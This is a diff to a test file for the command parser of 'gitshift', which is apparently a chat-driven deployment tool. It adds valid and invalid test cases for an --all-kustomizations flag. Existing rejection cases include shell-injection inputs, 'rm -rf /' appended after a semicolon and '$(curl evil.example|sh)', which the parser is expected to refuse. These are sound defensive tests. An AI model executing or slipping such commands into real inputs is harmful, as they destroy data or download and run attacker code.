@@ -42,6 +42,10 @@ from gitshift.config import CommandsConfig, Rule
     ("/gitshift set-image :1.2.0", {"allow_other_envs": False}),
     ("/gitshift canary scale --allow-other-envs 25", {"weight": 25, "allow_other_envs": True}),
     ("/gitshift promote web staging production --allow-other-envs", {"source": "staging", "allow_other_envs": True}),
+    ("/gitshift set-image :1.2.0 --all-kustomizations", {"all_kustomizations": True, "allow_other_envs": False}),
+    ("/gitshift set-image :1.2.0", {"all_kustomizations": False}),
+    ("/gitshift bluegreen promote --all-kustomizations --allow-other-envs",
+     {"verb": "bluegreen.promote", "all_kustomizations": True, "allow_other_envs": True}),
 ])
 def test_valid_commands(body: str, expected: dict[str, object]) -> None:
     command = parse(body)
@@ -83,6 +87,10 @@ def test_comments_not_addressed_to_gitshift(body: str) -> None:
     ("/gitshift canary promote --allow-other-envs --allow-other-envs", "given twice"),
     ("/gitshift status --allow-other-envs", "`status` takes no option --allow-other-envs"),
     ("/gitshift help --allow-other-envs", "`help` takes no option --allow-other-envs"),
+    ("/gitshift canary promote --all-kustomizations=yes", "--all-kustomizations takes no value"),
+    ("/gitshift canary promote --all-kustomizations --all-kustomizations", "given twice"),
+    ("/gitshift status --all-kustomizations", "`status` takes no option --all-kustomizations"),
+    ("/gitshift help --all-kustomizations", "`help` takes no option --all-kustomizations"),
     ("/gitshift canary deploy", "needs an image"),
     ("/gitshift canary deploy 'web:1.0; rm -rf /'", "invalid image reference"),
     ("/gitshift set-image $(curl evil.example|sh)", "invalid image reference"),
